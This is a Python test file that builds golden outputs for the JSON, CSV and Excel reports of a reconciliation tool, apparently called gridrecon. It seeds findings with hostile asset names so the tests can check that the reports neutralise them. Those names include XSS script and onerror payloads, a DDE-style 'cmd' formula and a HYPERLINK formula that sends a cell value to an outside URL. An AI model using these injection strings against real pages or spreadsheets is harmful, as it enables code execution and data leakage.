"""Golden files for the reports: findings.json, findings.csv, summary.json and the cells of
findings.xlsx, rendered from one fixed result (the sample at as_of 2026-11-20, with fixed run id
and times, some history and waivers, and hostile names). Regenerate after an intended change with

    GRIDRECON_UPDATE_GOLDEN=1 .venv/bin/python -m pytest tests/test_reports_golden.py

and review the diff of tests/golden/. The builders here are shared by the other report tests.
"""

from __future__ import annotations

import copy
import datetime as dt
import difflib
import io
import json
import os
from functools import lru_cache
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import openpyxl
import pandas as pd
from conftest import REPO

from gridrecon import api
from gridrecon.checks.result import RunResult
from gridrecon.core.config import load_config
from gridrecon.reports import machine
from gridrecon.reports.xlsx import render_xlsx

GOLDEN = Path(__file__).resolve().parent / "golden"
UPDATE = os.environ.get("GRIDRECON_UPDATE_GOLDEN") == "1"
ZONE = ZoneInfo("Asia/Shanghai")
AS_OF = dt.date(2026, 11, 20)
STARTED = dt.datetime(2026, 11, 20, 6, 0, tzinfo=ZONE)
RUN_ID = "20261120-060000-0000"
PREVIOUS_RUN_ID = "20261119-060000-0000"

# asset_name of the hostile findings: markup, formulas, control characters, size, emoji
HOSTILE = {
    "script": "<script>window.__pwned=1</script>",
    "img": '"><img src=x onerror="window.__pwned=2">',
    "close": "</script><script>window.__pwned=3</script><!--",
    "formula_eq": '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "formula_plus": "+1+2",
    "formula_minus": "-2+3+cmd|' /C calc'!A0",
    "formula_at": "@SUM(1+1)",
    "formula_tab": "\t=1+1",
    "formula_fullwidth": "＝1+1",
    "control": "控制\x00字符\x07测\x1b[31m试\u202eevil\x7f\x85end\r\nline2",
    "long": "长" * 10_000,
    "emoji": "🔌⚡️公变 👩‍🔧",
    "number": "-100",
}
# what each becomes once control characters are removed (the other names are unchanged)
CLEANED = {"control": "控制字符测[31m试evilend\nline2"}


@lru_cache(maxsize=1)
def _sample() -> RunResult:
    return api.reconcile(load_config(REPO / "gridrecon.toml"), as_of=AS_OF)


def sample_result() -> RunResult:
    """The sample's result with fixed run id, times and paths: every finding `new`."""
    result = copy.deepcopy(_sample())
    result.run_id = RUN_ID
    result.started_at = STARTED
    result.finished_at = STARTED + dt.timedelta(seconds=9)
    result.config_path = "gridrecon.toml"
    # the real fingerprint hashes the sources' absolute paths, which differ between checkouts
    result.config_fingerprint = "0f1e2d3c4b5a6978"
    for source in result.sources.values():
        source.url = f"sqlite:///sample_data/{source.system}.sqlite"
        source.seconds = 0.0
    stamp = STARTED.isoformat(timespec="seconds")
    result.findings["first_seen"] = stamp
    result.findings["last_seen"] = stamp
    return result


def with_history(result: RunResult) -> RunResult:
    """A copy as a later run would see it: open, reopened, resolved and waived findings, a trend."""
    result = copy.deepcopy(result)
    findings = result.findings.sort_values("finding_id", kind="stable").reset_index(drop=True)
    earlier = (STARTED - dt.timedelta(days=7)).isoformat(timespec="seconds")
    findings.loc[0:4, "state"] = "open"
    findings.loc[0:4, "first_seen"] = earlier
    findings.loc[5, "state"] = "reopened"
    findings.loc[5, "first_seen"] = earlier
    findings.loc[6:7, ["state", "waived"]] = ["open", True]
    resolved = findings.loc[8:10].copy()
    resolved["finding_id"] = ["f" + i[1:] for i in resolved["finding_id"]]
    resolved["state"] = "resolved"
    resolved["first_seen"] = earlier
    resolved["last_seen"] = (STARTED - dt.timedelta(days=1)).isoformat(timespec="seconds")
    resolved["subject"] = ""
    resolved.loc[resolved.index[-1], "waived"] = True  # waived, then fixed: resolved all the same
    result.findings = pd.concat([findings, resolved], ignore_index=True)
    result.previous_run_id = PREVIOUS_RUN_ID
    result.trend = trend_of(result)
    return result


def trend_of(result: RunResult, runs: int = 5) -> pd.DataFrame:
    """Open findings per rule over `runs` daily runs ending with this one."""
    current = result.counts()["by_rule"]
    rows = []
    for back in range(runs - 1, -1, -1):
        started = result.started_at - dt.timedelta(days=back)
        run_id = result.run_id if back == 0 else f"{started:%Y%m%d-%H%M%S}-0000"
        for number, (rule, count) in enumerate(sorted(current.items())):
            rows.append(
                {
                    "run_id": run_id,
                    "started_at": started,
                    "rule_id": rule,
                    "open": count + (back * (number % 3)) if back else count,
                }
            )
    return pd.DataFrame(rows, columns=["run_id", "started_at", "rule_id", "open"])


def with_hostile(result: RunResult) -> RunResult:
    """A copy with one finding per hostile name (also in pms_value and detail)."""
    result = copy.deepcopy(result)
    template = result.findings[result.findings["rule_id"] == "UNLINKED"].iloc[0]
    rows = []
    for number, (key, name) in enumerate(HOSTILE.items()):
        row = template.copy()
        row["finding_id"] = f"0000hostile{number:05d}"
        row["marketing_id"] = f"99{number:08d}"
        row["asset_name"] = name
        row["pms_value"] = name if key != "long" else "x"
        row["detail"] = f"{key}: {name}" if key != "long" else key
        row["subject"] = f"marketing:{row['marketing_id']}"
        rows.append(row)
    result.findings = pd.concat([result.findings, pd.DataFrame(rows)], ignore_index=True)
    return result


def golden_result() -> RunResult:
    return with_hostile(with_history(sample_result()))


def xlsx_cells(content: bytes) -> dict[str, Any]:
    """Every sheet's cell values (dates as ISO text), frozen pane and filter range."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    sheets = {}
    for sheet in book.worksheets:
        rows = [
            [v.isoformat() if isinstance(v, dt.datetime | dt.date) else v for v in row]
            for row in sheet.iter_rows(values_only=True)
        ]
        sheets[sheet.title] = {
            "freeze": sheet.freeze_panes,
            "filter": sheet.auto_filter.ref,
            "rows": rows,
        }
    return sheets


def check_golden(name: str, text: str) -> None:
    path = GOLDEN / name
    if UPDATE:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(text.encode("utf-8"))  # bytes: keep the CSV's \r\n as rendered
    assert path.exists(), f"{path} is missing: run with GRIDRECON_UPDATE_GOLDEN=1 to create it"
    expected = path.read_bytes().decode("utf-8")
    if text != expected:
        diff = difflib.unified_diff(
            expected.splitlines(), text.splitlines(), f"golden/{name}", "rendered", lineterm="", n=1
        )
        shown = "\n".join(line[:200] for line in list(diff)[:40])
        raise AssertionError(
            f"{name} differs from its golden file (GRIDRECON_UPDATE_GOLDEN=1 regenerates):\n{shown}"
        )


def test_findings_json_matches_its_golden_file() -> None:
    check_golden("findings.json", machine.findings_json(golden_result()))


def test_findings_csv_matches_its_golden_file() -> None:
    content = machine.findings_csv(golden_result())
    assert content.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs for Chinese text
    check_golden("findings.csv", content.decode("utf-8-sig"))


def test_summary_json_matches_its_golden_file() -> None:
    check_golden("summary.json", machine.summary_json(golden_result()))


def test_xlsx_cells_match_their_golden_file() -> None:
    cells = xlsx_cells(render_xlsx(golden_result()))
    text = json.dumps(cells, ensure_ascii=False, indent=1, default=str) + "\n"
    check_golden("findings.xlsx.json", text)


def test_rendering_twice_gives_the_same_bytes() -> None:
    result = golden_result()
    assert machine.findings_json(result) == machine.findings_json(golden_result())
    assert machine.findings_csv(result) == machine.findings_csv(golden_result())
